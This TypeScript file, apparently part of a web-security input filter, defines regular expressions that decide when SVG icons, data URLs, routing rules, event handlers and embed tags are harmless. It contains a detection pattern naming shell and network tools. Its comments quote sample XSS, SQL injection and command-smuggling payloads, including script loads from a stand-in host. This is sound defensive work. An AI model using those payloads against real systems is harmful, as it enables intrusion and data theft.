/** (twelfth round) a script's declaration line, and a regular expression literal assigned or passed, ended by `;` `,` `)` or `.` */
const DECLARATION = /(?:^|\n)[ \t]{0,40}(?:var|let|const)[ \t]{1,4}[\w$]{1,40}[ \t]{0,4}=/
const REGEX_LITERAL = /(?<=[=(,:][ \t]{0,4})\/(?![*/])(?:[^/\n\\[]|\\.|\[(?:[^\]\n\\]|\\.){0,100}\]){1,300}\/[dgimsuy]{0,6}(?=[ \t]{0,4}[;,).\n])/g
/** (thirty-second round) a GraphQL document in a program's tagged template literal: no separator, redirection, substitution or escape inside */
// (review: a GraphQL document's shape, not any text without a separator: an operation or a selection set first, then names, GraphQL's
// punctuation, `...`, `$variables` and strings — no `-`, `/` or `.` an option, a path or a host needs —, and no line opening on a
// downloader, a shell, an interpreter or a network tool)
const GRAPHQL_LITERAL = /(?:\bgql|\bgraphql|\/\*[ \t]{0,4}graphql[ \t]{0,4}\*\/)[ \t]{0,4}\(?[ \t]{0,4}`\s{0,40}(?:(?:query|mutation|subscription|fragment)\b|\{)(?![^`]{0,4000}?\n[ \t]{0,40}(?:nc|ncat|netcat|curl|wget|bash|sh|zsh|dash|ksh|python\d?|perl|ruby|php|node|busybox|telnet|socat|rm|chmod|chown|reboot|shutdown|halt|kill|pkill|mkfifo|crontab|useradd|base64|eval|exec|nslookup|dig|ping)\b)(?:[\w \t\n{}():!,=@[\]]|\.\.\.|\$(?=[a-z_])|"[^"`\n\\$]{0,200}"){0,4000}`/g
/** (sixtieth round) a module's import of a GraphQL tag from its client library, opening the value */
const GQL_IMPORT = /^\s{0,40}import[ \t]{1,4}(?:gql|\{[ \t]{0,4}(?:[\w$]{1,40}[ \t]{0,4},[ \t]{0,4}){0,8}gql[ \t]{0,4}(?:,[ \t]{0,4}[\w$]{1,40}[ \t]{0,4}){0,8}\})[ \t]{1,4}from[ \t]{1,4}['"](?:graphql-tag|@apollo\/client(?:\/core)?|apollo-boost|react-apollo|graphql-request|urql|@urql\/[\w-]{1,40}|apollo-angular)['"]/
/** (sixtieth round's second review) a module of imports and of GraphQL documents declared, each document with its tag set aside (`const Q = \`\``) */
const GQL_MODULE = /^\s{0,40}(?:import[ \t]{1,4}[\w${}, \t*]{1,200}[ \t]from[ \t]{1,4}(?:'[^'\n]{1,100}'|"[^"\n]{1,100}");?[ \t]{0,8}\n\s{0,40}){1,10}(?:(?:export[ \t]{1,4})?(?:const|let|var)[ \t]{1,4}[\w$]{1,60}[ \t]{0,4}=[ \t]{0,4}``;?\s{0,40}){1,20}$/
/** (sixtieth round's review) GRAPHQL_LITERAL for an operation that declares its variables on its first line, `query q($a: T) {` */
const GRAPHQL_OPERATION = new RegExp(GRAPHQL_LITERAL.source.replace(String.raw`(?:(?:query|mutation|subscription|fragment)\b|\{)`, String.raw`(?:query|mutation|subscription)[ \t]{1,4}[_a-z]\w{0,60}[ \t]{0,4}\(`), 'g')
/**
 * (thirty-second round) a script block's closing tag on the last line of a program's source, nothing after it; (thirty-third round) or
 * only the component's style block (a Vue file's `</script>⏎⏎<style scoped lang="scss">…`), which is judged as any markup is; (thirty-fifth
 * round) or only a template's closing tags (a Jinja page's `</script>⏎{% endif %}`)
 */
/** (sixtieth round) the working directory's substitution as an argument, where a path goes on or ends (`-v $(pwd):/app`, `$(pwd)/data`) */
// (not where a command starts, after a separator or a line's start: `;$(pwd)/../../bin/sh -c id` runs what the path names)
const PWD_IN_PATH = /(?<=[^\s;&|`(){}]\s{1,8}|[=:"'])\$\(pwd\)(?=[/:\s"']|$)/g
/** (sixtieth round's review) a script's closing tag on the value's last line, nothing after it */
const TRAILING_CLOSE_ALONE = /\n[ \t]{0,8}<\/script>[ \t\r\n]{0,20}$/
const TRAILING_SCRIPT_CLOSE = /\n[ \t]{0,8}<\/script>(?=[ \t\r\n]{0,20}(?:(?:\{%-?[ \t]{0,4}end[a-z]{0,12}[ \t]{0,4}-?%\}[ \t\r\n]{0,20}){0,3}$|<style\b[^<>]{0,200}>[^<]{0,20000}(?:<\/style>[ \t\r\n]{0,20})?$))/
/**
 * (thirty-sixth round) a script's closing tag on its own line, then only the page's own closing tags to the end (`</script>⏎  </body>⏎</html>`,
 * a layout's last lines): only in a value that opens no script (review: a `<script>` inside a template literal, which the program's
 * strings hide, would run before such a close)
 */
const TRAILING_PAGE_CLOSE = /\n[ \t]{0,8}<\/script>(?=[ \t\r\n]{0,20}(?:<\/(?:body|html|head|div|main|section|template)>[ \t\r\n]{0,20}){1,4}$)/
/**
 * (thirty-third round) An inline SVG icon's opening (`<svg viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg">`, an icon set's or a
 * theme's): drawn (SVG_DRAWING), it runs nothing, so when nothing in the element can (SVG_ACTIVE) it is no element to probe with; a handler,
 * a script, a link, a reference, an animation, foreign content, a comment or a style sheet in it and it is read as before
 */
// (forty-third round: or its size alone, as HTML's inline SVG may be written, `<svg width="400" height="110">`, a notebook's example)
// (fifty-first round: or a Blade component's attributes merged in PHP, `<svg {{ $attributes->merge(['viewBox' => '0 0 448 512', 'xmlns' =>
// 'http://www.w3.org/2000/svg']) }}>`, an icon set's in Laravel: the name quoted, `=>` for `=`, and PHP's `->` and `=>` inside the opening)
// (fifty-second round: and an ERB output tag in its attributes, `<svg class="<%= local_assigns[:class] %>" xmlns=…>`, a Rails partial's icon)
const SVG_ICON = /^<svg\b(?=(?:[^<>]|[-=]>|<%=?[^%<>]{0,100}%>){0,400}?\b(?:xmlns['"]?\s*(?:=|=>)\s*['"]http:\/\/www\.w3\.org\/2000\/svg['"]|viewbox['"]?\s*(?:=|=>)\s*(?:['"][\d.\s,-]{1,60}['"]|\{)|(?:width|height)['"]?\s*(?:=|=>)\s*['"][\d.]{1,10}(?:px|pt|em|%)?['"]))/
/** Whether a run of markup leaves a quote open (an odd count of `"` or of `'`). */
function quotesOpen(v: string): boolean {
  let double = 0
  let single = 0
  for (let i = 0; i < v.length; i++) {
    const c = v.charCodeAt(i)
    if (c === 34) double++
    else if (c === 39) single++
  }
  return (double & 1) === 1 || (single & 1) === 1
}
const MAX_ICON = 20_000
/** (fifty-first round) what the elements one value's icons are judged in may hold together */
const ICON_WORK = 2 * MAX_ICON
/**
 * (forty-second round) A comment between a drawing's elements, as Graphviz writes one before each node and edge (`</g>⏎<!-- m&#45;&gt;sd -->⏎<g
 * id="edge1"…`, a notebook's saved output): dropped before the icon is judged. Only where a tag has just ended (after a `>` and blanks,
 * never inside a tag, where `<!--` is an attribute's name and what follows still counts) and only text without `<` or a quote, so that
 * dropping it removes no tag and opens or closes no quoted value (where a browser ends the comment sooner, `--!>`, the rest is text without
 * a tag either); any other comment keeps the element read as before. (Review) Where decoding made markup, the value as sent must have the
 * comment so too (`inertIcons`): an entity is no tag's end to a browser.
 */
// (forty-fourth round: a run of them after one tag's end, `>⏎<!--v-if-->⏎<!-- eslint-disable vue/no-v-html -->⏎<g>` in Vue's rendered
// icons, each on its line; the first alone was dropped, the next had no `>` left before it)
// (fourth review: not after a style element's tag, where `<!--` and `-->` are CSS's markers around live rules, `<p><style><!---->
// <!--@import url(…);-->`; nor Knockout's container-less bindings or AngularJS' comment directives, which those frameworks run,
// `<!-- ko text: alert(1) --><!-- /ko -->`)
const SVG_COMMENT = /(?<!<style\b[^<>]{0,200})(>[ \t\n\f\r]{0,40})(?:<!--(?![ \t\n\f\r]{0,8}(?:\/?ko\b|directive\s*:))[^<"']{0,200}?-->[ \t\n\f\r]{0,40}){1,8}/g
/** Each inline SVG element of a value judged alone (at most 64, each up to its closing tag): the icons that can run nothing are renamed. */
function inertIcons(v: string, raw: string | null | undefined): string {
  // (forty-second round's review) where decoding made markup, a comment is dropped only where the text as sent has it too (`<img src=x &gt;
  // <!-- &gt; onerror=…-->` decoded looked like a tag's end then a comment; a browser reads attributes): each element is judged on the
  // value as sent as well, the openings taken in order (none when decoding made one); `null`: the text as sent is not known, no comment
  // is dropped
  // (third review: and none past 64 openings, where the count stops)
  if (typeof raw === 'string') {
    const openings = count(v, '<svg')
    if (openings > 64 || count(raw, '<svg') !== openings) raw = null
  }
  let rawAt = typeof raw === 'string' ? raw.indexOf('<svg') : -1
  let out = ''
  let from = 0
  // (fifty-first round) the first `</svg>` at or after an opening, looked for again only once the opening is past it (none after one
  // opening is none after the next: 64 openings and no `</svg>` read a 16 KiB value 64 times, for each of the value's readings)
  let close = -2
  let rawClose = -2
  let work = 0
  for (let at = v.indexOf('<svg'), n = 0; at !== -1 && n < 64; at = v.indexOf('<svg', at + 4), n++) {
    const rawHere = rawAt
    if (rawAt !== -1) rawAt = raw!.indexOf('<svg', rawAt + 4)
    if (at < from) continue
    if (close !== -1 && close < at) close = v.indexOf('</svg>', at)
    // (fifty-first round) the elements read, together, at most ICON_WORK characters (unclosed, each opening's runs to the value's end): the
    // openings after are left as they are, judged as markup
    if ((work += (close === -1 ? v.length : close) - at) > ICON_WORK) break
    if (typeof raw === 'string' && rawHere !== -1 && rawClose !== -1 && rawClose < rawHere) rawClose = raw.indexOf('</svg>', rawHere)
    if (inertAt(v, at, close, raw !== null) && (typeof raw !== 'string' || inertAt(raw, rawHere, rawClose, true))) {
      out += `${v.slice(from, at)}<svg-icon`
      from = at + 4
    }
  }
  return from === 0 ? v : out + v.slice(from)
}
/** How many times `part` occurs in `v` (at most 65: an icon's openings are judged up to 64). */
function count(v: string, part: string): number {
  let n = 0
  for (let at = v.indexOf(part); at !== -1 && n < 65; at = v.indexOf(part, at + part.length)) n++
  return n
}
/**
 * Whether the SVG element opening at `at` can run nothing (its comments between elements dropped first when `comments`); `close`: the
 * first `</svg>` after `at`, or -1.
 */
function inertAt(v: string, at: number, close: number, comments: boolean): boolean {
  // (review: up to its first `</svg>` only when no comment, declaration or open quote comes before it — an attribute or a comment can hold
  // a `</svg>` the browser does not close on; else to the value's end)
  // (read-through: an element longer than an icon is drawn with is left as it is, so a value of many openings costs 64 bounded slices at most)
  if ((close === -1 ? v.length : close) - at > MAX_ICON) return false
  let element = v.slice(at, close === -1 ? v.length : close)
  if (comments && element.includes('<!--')) element = element.replace(SVG_COMMENT, '$1')
  if (close !== -1 && (element.includes('<!') || quotesOpen(element))) return false
  let icon = element.includes('<use') ? element.replace(LOCAL_USE, '<g/>') : element
  if (icon.includes('<style')) icon = icon.replace(INERT_SVG_STYLE, '')
  return SVG_ICON.test(icon) && (SVG_DRAWING.test(icon) || (at === 0 && SVG_OPENING_ALONE.test(icon) && !quotesOpen(icon))) && !SVG_ACTIVE.test(icon)
}
/**
 * (thirty-fourth round) An SVG image as a base64 `data:` URL (a dashboard's, a manifest's or a theme's icon): decoded, an image that
 * can run nothing (no script, handler, `javascript:`, foreign content, frame, link, animation or image inside, no reference outside
 * itself, no declaration but comments) is no markup to probe with; its style sheet styles only the image. At most 8 a value, each up
 * to SVG_DATA_MAX base64 characters; anything else is read as before (`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9…` is XSS). Review: the
 * base64 must end the URL (a blank, `%` or `\` after it and a browser decodes more), any XML prefix names an element (`<_:script>`),
 * a character reference, a CSS escape or `expression(` and processing instructions other than the declaration make it active, and a
 * URL is renamed only where its text is found once.
 */
const SVG_DATA = /data:image\/svg\+xml;base64,([A-Za-z0-9+/]{8,200000}={0,2})(?![A-Za-z0-9+/=%\s\\&])/gi
const SVG_DATA_MAX = 200_000
/** what after a base64 run makes a browser read on: more of the alphabet, padding, a blank, an escape */
const URL_GOES_ON = /^[a-z0-9+/=%\s\\&]$/
const SVG_DATA_ACTIVE = /&#|\\[0-9a-f]|expression\s*\(|<\?(?!xml\s)|<(?:[^\s<>/:]{1,64}:)?(?:script|foreignobject|iframe|frame|embed|object|handler|listener|feimage|image|a|set|animate\w{0,20}|discard|use)\b|\bon[a-z]{3,40}\s*=|(?:java|vb)script\s*:|\bhref\s*=|<!(?!--)|\bdata\s*:|@import|url\s*\(\s*['"]?\s*(?!#)/
/**
 * (thirty-seventh round) SVG 1.1's own document type, as icon sets' files come (`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 * "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`, GDevelop's extension icons): SVG's own public identifier and a system one, no
 * internal subset — no entity is declared, and no browser fetches the DTD — so the image after it is judged as any icon; any other `<!` is
 * read as before (review: an XHTML or MathML public identifier turns HTML's named entities on in Chromium, `&commat;import url&lpar;…`).
 */
const SVG_DOCTYPE = /^<!doctype\s{1,4}svg\s{1,4}public\s{1,4}(["'])-\/\/w3c\/\/dtd svg (?:1\.0|1\.1|1\.1 tiny|1\.1 basic|20010904)\/\/en\1\s{1,4}(?:"[^"<>[\]]{0,200}"|'[^'<>[\]]{0,200}')\s{0,4}>\s{0,40}/
const XML_DECLARATION = /^\s{0,40}(?:<\?xml\s[^<>]{0,200}\?>\s{0,40})?(?:<!--(?:[^-]|-(?!->)){0,2000}-->\s{0,40}){0,4}/
/** The value with each inert SVG image given as a base64 `data:` URL renamed (`data:image/svg-icon,`); `original` is the value in its own case. */
function inertSvgData(v: string, original: string): string {
  SVG_DATA.lastIndex = 0
  let out = v
  for (let m = SVG_DATA.exec(original), n = 0; m !== null && n < 8; m = SVG_DATA.exec(original), n++) {
    // (review: renamed only where its text is found once and whole, so that an icon's URL cannot rename the start of a longer,
    // active one; decoded only then)
    const text = m[0].toLowerCase()
    const at = out.indexOf(text)
    if (at === -1 || out.indexOf(text, at + 1) !== -1 || URL_GOES_ON.test(out.charAt(at + text.length))) continue
    const body = svgImage(m[1]!)
    if (body.length <= SVG_DATA_MAX && SVG_ICON.test(body) && body.endsWith('</svg>') && body.indexOf('<svg', 4) === -1 && !SVG_DATA_ACTIVE.test(body)) {
      out = out.slice(0, at) + 'data:image/svg-icon,' + out.slice(at + text.length)
    }
  }
  return out
}
/**
 * A base64 SVG image's text, lower-cased, after its XML declaration, comments and SVG's own document type; `<!unreadable>` when its bytes
 * are not what they read as in Latin-1 (review: Chromium decodes the encoding the declaration names, and ISO-2022-JP's `ESC ( B` is nothing
 * to it — `o\x1b(Bnload=` ran as `onload=`; UTF-16's NULs hide every word): a control byte, a byte-order mark other than UTF-8's, or an
 * encoding other than UTF-8, ASCII or Latin-1 named.
 */
function svgImage(base64: string): string {
  const svg = Buffer.from(base64, 'base64').toString('latin1').toLowerCase()
  if (SVG_CONTROL.test(svg) || svg.startsWith('\xff\xfe') || svg.startsWith('\xfe\xff') || (svg.includes('encoding') && SVG_FOREIGN_ENCODING.test(svg))) return '<!unreadable>'
  const body = svg.slice(XML_DECLARATION.exec(svg)![0].length).trimEnd()
  return body.startsWith('<!doctype') ? body.replace(SVG_DOCTYPE, '') : body
}
const SVG_CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/
const SVG_FOREIGN_ENCODING = /^\s{0,40}<\?xml\s[^<>]{0,200}?\bencoding\s{0,4}=\s{0,4}(?!["'](?:utf-?8|us-ascii|ascii|iso-8859-1|latin-?1)["'])/
/**
 * (thirty-seventh round) Whether a base64 SVG image in the value (its own case) can run or fetch anything (SVG_DATA_ACTIVE), whatever it
 * opens on: the signature on the encoded text reads `<svg`, `<script` and `<?` (`PHN2Zy`, `PHNjcmlwd`, `PD9`), and an image opening on a
 * document type (`PCFET0NUWVBF…`) or a blank went unread — `<!DOCTYPE svg PUBLIC "a" "b"><svg …><script>…` was no XSS to it.
 */
function activeSvgData(original: string): boolean {
  SVG_DATA_LOOSE.lastIndex = 0
  for (let m = SVG_DATA_LOOSE.exec(original), n = 0; m !== null && n < 8; m = SVG_DATA_LOOSE.exec(original), n++) {
    if (SVG_DATA_ACTIVE.test(svgImage(m[1]!.replace(ASCII_BLANKS, '')))) return true
  }
  return false
}
/** (review) the base64 as a browser reads it, ASCII blanks anywhere in it (`PHN2 ZyB4 …` ran as an image) */
const SVG_DATA_LOOSE = /data:image\/svg\+xml;base64,([A-Za-z0-9+/=\t\n\f\r ]{8,200000})/gi
const ASCII_BLANKS = /[\t\n\f\r ]+/g
/**
 * (thirty-fourth round) A reverse proxy's routing rule (Traefik's `Host(`example.com`) && PathPrefix(`/api`)`, as its dashboards, its
 * API and its containers' labels carry it): matchers given back-quoted strings, joined by `&&`, `||`, `!` and parentheses. Its
 * back quotes quote no SQL name, and nothing but the matchers and those operators may be in the value; a quote, a `;`, a comment, a
 * blank, a comma, a parenthesis or a `#` in a matcher's string and it is read as before (review: spliced into a back-quoted SQL name,
 * the first back quote closes it, ``Host(` union select password from users#`)``).
 */
const ROUTER_STRING = String.raw`\`(?:[^\`\s'";#,()\-/]|-(?!-)|\/(?!\*)){0,300}\``
const ROUTER_MATCHER = new RegExp(String.raw`\b(?:host|hostregexp|hostheader|path|pathprefix|pathregexp|method|headers|headersregexp|query|queryregexp|clientip|hostsni|hostsniregexp|alpn)\s{0,4}\(\s{0,4}${ROUTER_STRING}(?:\s{0,4},\s{0,4}${ROUTER_STRING}){0,16}\s{0,4}\)`, 'g')
const ROUTER_RULE_REST = /^(?:\s|m\b|[()!]|&&|\|\|){1,400}$/
function routerRule(v: string): boolean {
  if (v.length > 4_000) return false
  const rest = v.replace(ROUTER_MATCHER, ' m ')
  return rest !== v && ROUTER_RULE_REST.test(rest)
}
/** (thirty-third round) A style sheet loaded without blocking the page (`<link rel="stylesheet" href="…" media="print" onload="this.media='all'">`): its handler only switches the sheet on */
const ASYNC_STYLE = /\bonload\s*=\s*(["'])\s*(?:this\.onload\s*=\s*null\s*;\s*)?this\.(?:media|rel)\s*=\s*'(?:all|stylesheet)'\s*;?\s*\1/g
/** a handler's argument that is data: a number, a truth value, null, a short plain string (no colon, slash, quote, parenthesis or angle
 * bracket: (review) no URL, `loadJS('//evil.example/x.js')`; not in the attribute's own quote), or an object of such values, two levels deep
 * (`requestJson({AudioReactive:{enabled:true}})`); (fifty-second round) or the element or the event itself, which the page's own function is
 * handed to act on (`onclick="toggleFieldset(this);"`, Redmine's filters: no code of the value's runs, and a browser's own functions are
 * refused by name as before) */
const HANDLER_LITERAL = String.raw`(?:-?\d{1,12}(?:\.\d{1,6})?|true|false|null|(?!\1)'[\w .,#%-]{0,60}')`
const HANDLER_OBJECT = (value: string) => String.raw`\{\s{0,4}(?:[a-z_$][\w$]{0,30}\s{0,4}:\s{0,4}${value}\s{0,4}(?:,\s{0,4}[a-z_$][\w$]{0,30}\s{0,4}:\s{0,4}${value}\s{0,4}){0,8})?\}`
const HANDLER_ARGUMENT = String.raw`(?:this|event|${HANDLER_LITERAL}|${HANDLER_OBJECT(`(?:${HANDLER_LITERAL}|${HANDLER_OBJECT(HANDLER_LITERAL)})`)})`
/**
 * An event handler attribute of `events` whose quoted value is `body` and nothing else but a `;`: only between HTML's own blanks and quotes,
 * the quote ending the attribute (the body may name the quote as `\1`).
 */
const quotedHandler = (events: string, body: string) => new RegExp(String.raw`(?<=[\s"'/])on(?:${events})[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])\s{0,4}${body}\s{0,4};?\s{0,4}\1(?=[ \t\n\f\r/>]|$)`, 'g')
/**
 * (thirty-fifth round) A handler of a user's action that calls one of the page's own functions by its name, with nothing to hand it
 * but data (`<a href="#" onclick="ExportCSV()">`, a translation's link to an action; `onclick="requestJson({AudioReactive:{enabled:true}});"`,
 * a device's page): it runs no code of its own. Not a function the browser provides
 * that acts alone — a window's, a document's, a form's or an element's (`print()`, `open()`, `submit()`, `click()`, `requestFullscreen()`,
 * `showPicker()`: an inline handler's scope reaches all four) —, nor one given arguments, an expression or no quotes; (review) not a handler
 * that fires without the user (`onload`, `onfocus`, `onerror`: `onfocus="logout()"` with `autofocus`), and only between HTML's own blanks
 * and quotes, the quote ending the attribute (`onerror=\v"x()";location=…` is unquoted to a browser)
 */
const OWN_FUNCTION_HANDLER = quotedHandler('click|dblclick|auxclick|contextmenu|change|input|submit|keydown|keyup|keypress|mousedown|mouseup', String.raw`(?!(?:clearinterval|cleartimeout|cancelanimationframe|webkitcancelanimationframe|cancelidlecallback|sethtml|setrangetext|setcustomvalidity|attachshadow|arianotify|execscript|setimmediate|navigate|showmodaldialog|showmodelessdialog|setattribute|setattributens|toggleattribute|removeattribute|insertadjacenthtml|insertadjacenttext|insertadjacentelement|sethtmlunsafe|fetchlater|webkitenterfullscreen|webkitexitfullscreen|webkitrequestpointerlock|showpicker|requeststorageaccess|getscreendetails|querylocalfonts|requestpictureinpicture|replacechildren|stepup|stepdown|setcapture|removenode|requestclose|alert|prompt|confirm|print|open|close|stop|focus|blur|eval|fetch|import|find|scroll|scrollto|scrollby|scrollintoview|moveto|moveby|resizeto|resizeby|showopenfilepicker|showsavefilepicker|showdirectorypicker|requestfullscreen|webkitrequestfullscreen|mozrequestfullscreen|msrequestfullscreen|exitfullscreen|requestpointerlock|getselection|postmessage|atob|btoa|settimeout|setinterval|queuemicrotask|reporterror|dispatchevent|requestanimationframe|execcommand|write|writeln|submit|requestsubmit|reset|click|remove|select|play|pause|load|show|showmodal|showpopover|togglepopover|hidepopover|reload|back|forward|go|debugger|constructor|function|valueof|tostring|toggle|replacewith|before|after|prepend|append|clear|assign|replace|history|location)\s{0,4}\()[a-z_$][\w$]{0,40}\((?:\s{0,4}${HANDLER_ARGUMENT}(?:\s{0,4},\s{0,4}${HANDLER_ARGUMENT}){0,4}\s{0,4})?\)`)
/**
 * (thirty-sixth round) A handler that only cancels its event or lets it go on (`<form … onsubmit="return false">`, a form a script
 * submits; `onclick="return true;"`, `onclick="event.preventDefault()"`): it runs nothing else. Only between HTML's own blanks and quotes,
 * the quote ending the attribute, as the page's own function handler above.
 */
const NO_OP_HANDLER = quotedHandler('[a-z]{3,30}', String.raw`(?:return\s{1,4}(?:false|true)|(?:event|e)\.preventdefault\(\s{0,4}\))`)
/**
 * (fifty-fourth round) A handler whose code is one name and nothing else (Liquibase's `<preConditions onFail="MARK_RAN">`, an attribute of
 * an XML vocabulary's own that HTML reads as a handler): evaluating a name calls nothing — a function named (`onclick="alert"`) is not
 * called, and no global or element property read so acts — so the markup runs no code. Quoted as HTML quotes it (`quotedHandler`).
 */
const NAME_HANDLER = quotedHandler('[a-z]{3,30}', String.raw`[a-z_$][\w$]{0,40}`)
/** (thirty-third round) A link that does nothing, as pages write one for a script to handle (`<a href="javascript:;">`, `href="javascript:void(0)"`;
 * thirty-fifth round: an empty block, `href="javascript:{}"`) */
/** what such a link runs: `void(0)`, `void 0` or an empty block, then maybe a `;`, or a `;` alone (not nothing: `href="javascript:"`) */
const NO_OP_SCRIPT = String.raw`javascript:(?:(?:void\s{0,4}\(\s{0,4}0\s{0,4}\)|void\s{1,4}0|\{\s{0,4}\})\s{0,4};?|;)`
const NO_OP_LINK = new RegExp(String.raw`\bhref\s*=\s*(["'])${NO_OP_SCRIPT}\1`, 'g')
/** (thirty-fifth round) and such a URL as a whole value */
const NO_OP_URL = new RegExp(String.raw`^\s{0,4}${NO_OP_SCRIPT}\s{0,4}$`)
/**
 * (thirty-third round) A template page's script element loading the application's own asset through a tag (`<script src="{{ 'global.js' |
 * asset_url }}" defer="defer"></script>`): the source is the page's expression, no host an attacker names; a handler on it and it is read
 */
// (review: its opening tag exactly — one source, the tag's content naming no scheme or host, and besides only `defer`, `async`, `crossorigin`,
// a script's type, an id, a class or a nonce —: a second source, a handler or a remote address in the tag leave a script that loads or runs;
// fourth review: an expression opening on a name or a literal, or Django's `{% static '…' %}`, with no climb, query, fragment or `%` —
// `{{/../api/jsonp?cb=alert(1)}}` resolves to the site's own JSONP endpoint; thirty-sixth round's review: each value closed by the quote that
// opened it — `charset="utf-8' src=…` puts the source inside another attribute, the tag going on past the match;
// thirty-seventh round: a variable of the page's then a path of the site's, `src="{{ static }}/qrcode.min.js"`, each segment opening on a
// letter, a digit, `_` or `-` — no climb, and no second slash that an empty expression would leave as a protocol-relative address,
// `{{x}}//evil.example/`; review: nor an expression of the value's own, `{{ '/' }}/evil.example/x.js` rendered a script from
// another host in Jinja and Chromium —, and a subresource's integrity hash, which only narrows what loads)
const SCRIPT_ATTRIBUTE = String.raw`[ \t\n\f\r]{1,4}(?:defer(?:[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"defer"|'defer'|defer))?|async|crossorigin(?:[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"[\w-]{0,20}"|'[\w-]{0,20}'))?|type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"(?:module|text\/javascript)"|'(?:module|text\/javascript)')|(?:id|class|nonce)[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}"[\w .-]{0,60}"|integrity[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"sha(?:256|384|512)-[a-z0-9+/]{40,90}={0,2}"|'sha(?:256|384|512)-[a-z0-9+/]{40,90}={0,2}'))`
const TEMPLATE_SCRIPT_SRC = new RegExp(String.raw`<script(?:${SCRIPT_ATTRIBUTE})*\s{1,4}src\s{0,4}=\s{0,4}(["'])\s{0,4}(?:\{\{(?=\s{0,4}['"a-z_])(?![^{}\n]{0,200}?(?:\/\/|:|\\|\.\.|[?#%]))[^{}<>\n]{0,200}\}\}|\{\{\s{0,4}[a-z_][\w.]{0,60}\s{0,4}\}\}\/[\w-][\w.-]{0,59}(?:\/[\w-][\w.-]{0,59}){0,8}|\{%-?\s{0,4}static\s{1,4}(['"])(?![^'"\n]{0,200}?(?:\/\/|:|\\|\.\.|[?#%]))[^'"{}<>\n]{1,200}\2\s{0,4}-?%\})\s{0,4}\1(?:${SCRIPT_ATTRIBUTE})*\s{0,4}>\s{0,40}<\/script>`, 'g')
/**
 * (thirty-sixth round) A social or media site's embed code as its site gives it to paste into a post (`<a data-flickr-embed="true" …>…</a><script
 * async src="//embedr.flickr.com/assets/client-code.js" charset="utf-8"></script>`, Twitter's `widgets.js`, Instagram's `embed.js`): the
 * provider's one fixed script, which turns the link before it into the embedded post. Only that address exactly — https or scheme-relative,
 * no query, no other path (a JSONP endpoint or a user's file, a gist, stays a script from another site) — and only the attributes the
 * provider's code has besides the page's plain ones (`async`, `defer`, `charset="utf-8"`), nothing inside.
 */
/** a provider's script tag's attributes besides its source: the page's plain ones and a `charset="utf-8"` */
const PROVIDER_ATTRIBUTES = String.raw`(?:${SCRIPT_ATTRIBUTE}|[ \t\n\f\r]{1,4}charset[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"utf-8"|'utf-8'))*`
const PROVIDER_SCRIPT = new RegExp(String.raw`<script${PROVIDER_ATTRIBUTES}[ \t\n\f\r]{1,4}src[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])(?:https:)?\/\/(?:embedr\.flickr\.com\/assets\/client-code\.js|platform\.twitter\.com\/widgets\.js|www\.instagram\.com\/embed\.js|www\.tiktok\.com\/embed\.js|embed\.reddit\.com\/widgets\.js|s\.imgur\.com\/min\/embed\.js|assets\.pinterest\.com\/js\/pinit\.js|cpwebassets\.codepen\.io\/assets\/embed\/ei\.js|static\.codepen\.io\/assets\/embed\/ei\.js|w\.soundcloud\.com\/player\/api\.js|player\.vimeo\.com\/api\/player\.js|www\.youtube\.com\/iframe_api|speakerdeck\.com\/assets\/embed\.js|e\.issuu\.com\/embed\.js)\1${PROVIDER_ATTRIBUTES}[ \t\n\f\r]{0,4}>[ \t\n\f\r]{0,40}<\/script>`, 'g')
/**
 * (thirty-eighth round) A video site's player as it gives it to paste into a post (`<iframe width="560" height="315"
 * src="https://www.youtube.com/embed/02U9AJMEWx0" style="border:none;" allowfullscreen></iframe>`, Vimeo's `player.vimeo.com/video/…`): the
 * provider's page in a frame of its own origin, which reaches nothing of the page around it. Only its player's path — https, a video's id, a
 * query of plain parameters —, only the attributes the players' codes have, plain values (no `(` in a style: no `url(` or `expression(`),
 * nothing inside, and as sent (no decoding made it).
 */
// (forty-third round: and Google Maps' embedded map as its Share dialog gives it, `<iframe src="https://www.google.com/maps/embed?pb=!1m14!…"
// width="600" height="450" style="border:0;" allowfullscreen="" aria-hidden="false" tabindex="0"></iframe>`, a notebook's `%%html` cell, a
// contact page: the map's path and its one `pb` parameter of letters, digits, `!`, `.`, `-` and escapes)
const EMBED_URL = String.raw`https:\/\/(?:www\.)?(?:(?:youtube(?:-nocookie)?\.com\/embed\/[\w-]{1,20}|player\.vimeo\.com\/video\/\d{1,12})(?:\?[\w=.;&%-]{0,200})?|google\.com\/maps\/embed\?pb=[\w!.%-]{1,1000})`
const EMBED_VALUE = String.raw`[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"[\w .,;:#%-]{0,200}"|'[\w .,;:#%-]{0,200}'|[\w%-]{1,20})`
// (fourth review: no id or class, which name the frame in the page's scripts or give it the page's styles, and a style of its size and
// border only — a fixed, full-page, transparent frame took every click on the page)
const EMBED_STYLE = String.raw`[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}"(?:[ \t]{0,4}(?:border(?:-[a-z]{1,10})?|width|height|max-width|max-height|aspect-ratio)[ \t]{0,4}:[ \t]{0,4}[\w .%#-]{0,40}[ \t]{0,4};?){0,8}[ \t]{0,4}"`
const EMBED_ATTRIBUTE = String.raw`[ \t\n\f\r]{1,4}(?:(?:width|height|frameborder|title|loading|referrerpolicy|allow|aria-hidden|tabindex)${EMBED_VALUE}|style${EMBED_STYLE}|allowfullscreen(?:${EMBED_VALUE})?)`
const VIDEO_EMBED = new RegExp(String.raw`<iframe(?:${EMBED_ATTRIBUTE}){0,12}[ \t\n\f\r]{1,4}src[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"${EMBED_URL}"|'${EMBED_URL}')(?:${EMBED_ATTRIBUTE}){0,12}[ \t\n\f\r]{0,4}>[ \t\n\f\r]{0,40}<\/iframe>`, 'g')
/**
